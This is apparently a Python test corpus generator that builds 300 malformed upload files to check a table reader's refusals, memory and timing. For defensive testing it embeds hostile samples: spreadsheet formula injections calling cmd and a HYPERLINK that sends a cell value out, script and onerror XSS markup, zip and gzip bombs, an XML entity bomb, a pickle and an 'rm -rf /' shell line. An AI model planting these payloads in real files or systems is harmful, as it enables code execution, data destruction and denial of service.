"""Three hundred files that are no good tables, made anew from their numbers: sixty families, five of each.

``python -m tests.core.malformed`` reads each in a process of its own and prints what came of it, as JSON: a preview or a sentence, the memory that
reading took at its highest, and the time.
"""

from __future__ import annotations

import bz2
import ctypes
import gzip
import io
import json
import lzma
import os
import pickle
import resource
import sys
import time
import zipfile
from collections.abc import Callable, Iterator

import numpy as np

Make = Callable[[int, np.random.Generator], bytes]

MB = 2**20
EACH = 5
FENCE_MB = 128
"""Of address space: a reader that asked for more would end with a MemoryError."""


def table(rng: np.random.Generator, rows: int = 30, columns: int = 4, sign: str = ",", line: str = "\n") -> str:
    """Return a good table, to be spoiled."""
    head = sign.join(f"x{j}" for j in range(columns))
    body = line.join(sign.join(f"{value:.4f}" for value in row) for row in rng.normal(size=(rows, columns)))
    return f"{head}{line}{body}{line}"


def _zipped(data: bytes, name: str = "sheet.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def _nested(i: int) -> bytes:
    data = _zipped(b"0" * (1 << 22))
    for level in range(2 + i):
        data = _zipped(data * 40, f"{level}.zip")
    return data


def _with(rng: np.random.Generator, cell: str, row: int = 5, column: int = 1) -> str:
    """Return a good table with one cell put in."""
    lines = table(rng).split("\n")
    cells = lines[row].split(",")
    cells[column] = cell
    lines[row] = ",".join(cells)
    return "\n".join(lines)


def _everywhere(rng: np.random.Generator, cells: list[str]) -> str:
    """Return a table whose second column goes through some cells."""
    return "a,b,c\n" + "\n".join(f"{rng.normal():.3f},{cells[k % len(cells)]},{rng.normal():.3f}" for k in range(40))


def _full(sign: str, cell: str) -> bytes:
    """Return the largest table that is allowed, of cells that are about like this one: 2 MB or 250,000 cells in 5,000 rows."""
    columns = min(49, (2 * MB // 5_000 - 8) // (len(cell.encode()) + len(sign) + 2))
    rows = [sign.join(f"x{j}" for j in range(columns))]
    rows += [sign.join(f"{cell}{(k + j) % 97}" for j in range(columns)) for k in range(5_000)]
    return "\n".join(rows).encode()


_FORMULAS = (
    "=cmd|' /C calc'!A0",
    '"=HYPERLINK(""http://example.invalid/?""&A1,""x"")"',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://example.invalid/x.png)",
    "[click](javascript:alert(1))",
    "</style><svg onload=alert(1)>",
)
_OVERRIDES = ("\u202eevil", "a\u200bb", "\u2066x\u2069", "\ufeffy", "e" + "\u0301" * 300)
_ODD = (
    ("1e999", "-1e999", "1e-999", "nan", "inf"),
    ("0x1F", "0b1", "0o7", "1_000", "1__0"),
    ("١٢٣", "１２３", "Ⅷ", "½", "²"),
    ("1.2.3", "1,2,3", "--5", "+-5", "5-"),
    ("1e", "e5", ".", "-", "1e99999999"),
)

FAMILIES: dict[str, Make] = {
    # ------------------------------------------------------------------------------------------------ nothing in it
    "empty": lambda i, rng: b" " * i,
    "line_breaks_alone": lambda i, rng: (b"\n", b"\r\n", b"\r", b"\n\r", b"\n\n\n")[i] * (1, 10, 1000, 5000, 600_000)[i],
    "blanks_and_tabs": lambda i, rng: (b" ", b"\t", b" \n", b"\t\n", b" \t \n")[i] * (10**5),
    "commas_alone": lambda i, rng: (b"," * (1, 5, 99, 10_000, 10**6)[i]) + b"\n",
    "names_alone": lambda i, rng: ",".join(f"x{j}" for j in range(i + 1)).encode(),
    "one_row": lambda i, rng: b"a,b,c\n" + b"1,2,3\n" * (i > 2),
    "comments_alone": lambda i, rng: b"# nothing here\n" * (1, 10, 1000, 15_000, 100_000)[i],
    "quotes_alone": lambda i, rng: b'"' * (1, 2, 3, 1001, 10**6)[i],
    "one_word": lambda i, rng: (b"word", b"a", b"1", b"-", b"=")[i],
    # ---------------------------------------------------------------------------------------------------- too large
    "too_many_bytes": lambda i, rng: b"1,2,3\n" * (400_000 + 100_000 * i),
    "million_columns": lambda i, rng: (b",", b";", b"\t", b"|", b" ")[i].join([b"1"] * (10**6 - 1)) + b"\n",
    "million_columns_in_rows": lambda i, rng: (b",".join([b""] * (50_000 + 9_999 * i)) + b"\n") * (20 - i),
    "thousand_columns": lambda i, rng: ((b"1," * (101 + 200 * i)) + b"2\n") * 5,
    "too_many_rows": lambda i, rng: b"1,2\n" * (5_003 + 90_000 * i),
    "million_rows": lambda i, rng: (b"1\n", b"\n", b"a\n", b",\n", b"1\r")[i] * 10**6,
    "too_many_cells": lambda i, rng: (b",".join([b"7"] * (90 - i)) + b"\n") * 4_900,
    "long_cell": lambda i, rng: b"a,b\n1," + b"x" * (1_001, 99_000, 200_000, 1_000_000, 2_000_000)[i] + b"\n2,3\n",
    "long_number": lambda i, rng: b"a,b\n1," + b"9" * (61, 400, 1_000, 99_000, 500_000)[i] + b"\n2,3\n4,5\n",
    "long_quoted_cell": lambda i, rng: b'a,b\n"' + (b"x\n" * (30, 60, 2_000, 9_000, 600_000)[i]) + b'",1\n2,3\n',
    "long_names": lambda i, rng: (",".join("n" * (50 + 200 * i) + str(j) for j in range(5)) + "\n" + "1,2,3,4,5\n" * 20).encode(),
    # ------------------------------------------------------------------------------------------------- bombs, no text
    "zip_bomb": lambda i, rng: _nested(i % 3),
    "xlsx": lambda i, rng: _zipped(b"<worksheet/>" * (1 + i), "xl/worksheets/sheet1.xml"),
    "gzip_bomb": lambda i, rng: gzip.compress(b"0" * (i + 1) * MB * 8),
    "bz2_and_xz": lambda i, rng: (bz2.compress, lzma.compress)[i % 2](b"0" * (i + 1) * MB),
    "at_the_caps": lambda i, rng: _full((",", ";", "\t", "|", " ")[i], ("1", "12.5", "1234567", "größe", "数数")[i]),
    "picture": lambda i, rng: (b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"GIF89a", b"RIFF0000WEBP", b"II*\0")[i] + rng.bytes(5000),
    "binary_formats": lambda i, rng: (b"PAR1", b"ARROW1\0\0", b"\x89HDF\r\n\x1a\n", b"\x93NUMPY\x01\0", b"SQLite format 3\0")[i] + rng.bytes(3000),
    "pickle": lambda i, rng: pickle.dumps([os.getcwd, {"a": list(range(i))}], protocol=min(5, i + 2)),
    "noise": lambda i, rng: rng.bytes((10, 1000, 50_000, MB, 2 * MB)[i]),
    "program": lambda i, rng: (
        (b"\x7fELF", b"MZ\x90\0", b"#!/bin/sh\nrm -rf /\n", b"\xca\xfe\xba\xbe", b"%PDF-1.7\n")[i] + rng.bytes(500 if i != 2 else 0)
    ),
    "nulls": lambda i, rng: table(rng).encode().replace(b"0", b"\0" * (i + 1)) if i < 3 else b"\0" * (10 ** (i + 1)),
    "null_in_a_name": lambda i, rng: table(rng).encode().replace(b"x1", b"x\0" * (i + 1)),
    # ----------------------------------------------------------------------------------------------------- encodings
    "utf16_without_mark": lambda i, rng: table(rng).encode(("utf-16-le", "utf-16-be")[i % 2]) + b"\0" * (i // 2),
    "utf16_with_mark": lambda i, rng: table(rng, sign=";\t,| "[i]).encode("utf-16"),
    "utf32": lambda i, rng: table(rng).encode("utf-32")[: -i or None],
    "half_a_character": lambda i, rng: table(rng).replace("x1", "größe").encode("utf-16")[: -1 - 2 * i],
    "windows_1252": lambda i, rng: table(rng).replace("x1", ("größe", "prix €", "naïve", "ñ", "“quoted”")[i]).encode("cp1252"),
    "latin_1_only": lambda i, rng: table(rng).replace("x1", "größe" + chr((0x81, 0x8D, 0x8F, 0x90, 0x9D)[i])).encode("latin-1"),
    "mixed_encodings": lambda i, rng: "größe,b\n1,2\n3,4\n".encode() + ("höhe,7\n" * (i + 1)).encode("cp1252"),
    "overlong_utf8": lambda i, rng: (
        table(rng).encode() + (b"\xc0\xaf", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xff\xfe\xfd", b"\xe2\x82")[i] + b",1,2,3\n"
    ),
    "lone_surrogates": lambda i, rng: _with(rng, "\ud800" * (i + 1)).encode("utf-8", "surrogatepass"),
    "control_characters": lambda i, rng: _with(rng, "".join(chr(c) for c in range(1, 9)) * (i + 1)).encode(),
    "turned_writing": lambda i, rng: _with(rng, _OVERRIDES[i], row=0).encode(),
    "two_marks": lambda i, rng: b"\xef\xbb\xbf" * (i + 1) + table(rng).encode(),
    # ------------------------------------------------------------------------------------------------- rows and quotes
    "ragged": lambda i, rng: "\n".join(",".join(["1"] * int(n)) for n in rng.integers(1, 3 + 4 * i, size=40)).encode(),
    "open_quote": lambda i, rng: _with(rng, '"open', row=(1, 5, 20, 29, 30)[i]).encode(),
    "quote_in_the_middle": lambda i, rng: _with(rng, ('5" pipe', 'a"b"c', '"a"b', '""x""', 'x""')[i]).encode(),
    "carriage_returns": lambda i, rng: table(rng, line=("\r", "\r\n", "\r\r\n", "\n\r", "\r\r")[i]).encode(),
    "odd_line_breaks": lambda i, rng: table(rng, line=("\x0b", "\x0c", "\x1e", "\u2028", "\x85")[i]).encode(),
    "odd_delimiter": lambda i, rng: table(rng, sign=(":", "~", "^", "\u00b7", "&&")[i]).encode(),
    "two_delimiters": lambda i, rng: table(rng, rows=20).encode() + table(rng, rows=20, sign=";\t| :"[i]).encode(),
    "trailing_delimiters": lambda i, rng: table(rng).replace("\n", "," * (i + 1) + "\n").encode(),
    "wrong_sep_line": lambda i, rng: (f"sep={';|,xy'[i]}\n" + table(rng)).encode(),
    # ---------------------------------------------------------------------------------------------------------- names
    "same_names": lambda i, rng: (",".join(["same"] * (i + 2)) + "\n" + ("1," * (i + 1) + "2\n") * 20).encode(),
    "names_missing": lambda i, rng: ("," * (i + 1) + "\n" + "1" + ",2" * (i + 1) + "\n3" + ",4" * (i + 1) + "\n").encode(),
    "names_are_markup": lambda i, rng: _with(rng, _MARKUP[i], row=0).encode(),
    # ---------------------------------------------------------------------------------------------------------- cells
    "formulas": lambda i, rng: _everywhere(rng, [_FORMULAS[i]]).encode(),
    "numbers_that_are_none": lambda i, rng: _everywhere(rng, list(_ODD[i])).encode(),
    "other_formats": lambda i, rng: (
        b'{"a": [1, 2], "b": [3, 4]}',
        b"<!DOCTYPE html><table><tr><td>1</td></tr></table>",
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
        b"[[1, 2], [3, 4]]",
        b"{\\rtf1 1,2}",
    )[i],
    "nothing_to_fit": lambda i, rng: "\n".join(
        ["a,b"] + [("7,7", f"id{k},id{k + 1}", f"2020-01-{1 + k % 28:02},7", ",", f"w{rng.integers(10**9)},7")[i] for k in range(40)]
    ).encode(),
}


def corpus() -> Iterator[tuple[str, bytes]]:
    """Yield the name and the bytes of each file, always the same."""
    for number, (family, make) in enumerate(FAMILIES.items()):
        for i in range(EACH):
            yield f"{family}-{i}", make(i, np.random.default_rng([number, i]))


def outcome(data: bytes) -> tuple[str, str]:
    """Return "preview" or "sentence", and what is said: what a page does with a file, from its bytes to what can be fitted and saved."""
    from core.datasets.uploads import own_csv, own_data, read_table, suggested
    from core.errors import InvalidInput

    try:
        read = read_table(data)
    except InvalidInput as refusal:
        return "sentence", str(refusal)
    head = [read.names, *read.head()]
    kinds = [column.kind for column in read.columns]
    try:
        own_csv(own_data(read, suggested(read)))
    except InvalidInput as refusal:
        return "preview", f"{len(head)} lines, {kinds}; then: {refusal}"
    return "preview", f"{len(head)} lines, {kinds}"


def measured(data: bytes) -> dict[str, str | float]:
    """Return what came of a file in a process of its own: its kind, what is said, the peak of memory in MB above what was there before, seconds."""
    reading, writing = os.pipe()
    if not (child := os.fork()):
        os.close(reading)
        code = 1
        try:
            ctypes.CDLL(None).malloc_trim(0)  # or memory that was free already would not count
            resource.setrlimit(resource.RLIMIT_AS, (_status("VmSize") * 1024 + FENCE_MB * MB,) * 2)
            with open("/proc/self/clear_refs", "w", encoding="ascii") as refs:
                refs.write("5")  # the peak begins anew
            before, start = _status("VmRSS"), time.perf_counter()
            kind, said = outcome(data)
            taken = time.perf_counter() - start
            peak = (_status("VmHWM") - before) / 1024
            os.write(writing, json.dumps({"kind": kind, "said": said[:400], "peak_mb": peak, "seconds": taken}).encode())
            code = 0
        except BaseException as problem:  # noqa: BLE001 - told to the parent
            os.write(writing, json.dumps({"kind": "crash", "said": repr(problem)[:400], "peak_mb": 0.0, "seconds": 0.0}).encode())
        finally:
            os._exit(code)
    os.close(writing)
    with os.fdopen(reading, "rb") as answer:
        found = answer.read()
    os.waitpid(child, 0)
    return json.loads(found) if found else {"kind": "crash", "said": "killed", "peak_mb": 0.0, "seconds": 0.0}


def _status(name: str) -> int:
    with open("/proc/self/status", encoding="ascii") as lines:
        return next(int(line.split()[1]) for line in lines if line.startswith(f"{name}:"))


def main() -> None:
    """Print a line of JSON a file."""
    outcome(b"a,b\n" + b"1,2\n3,4\n" * 20)  # whatever is imported on the way is there before anything is measured
    for name, data in corpus():
        print(json.dumps({"name": name, "bytes": len(data)} | measured(data)), flush=True)


if __name__ == "__main__":
    sys.exit(main())
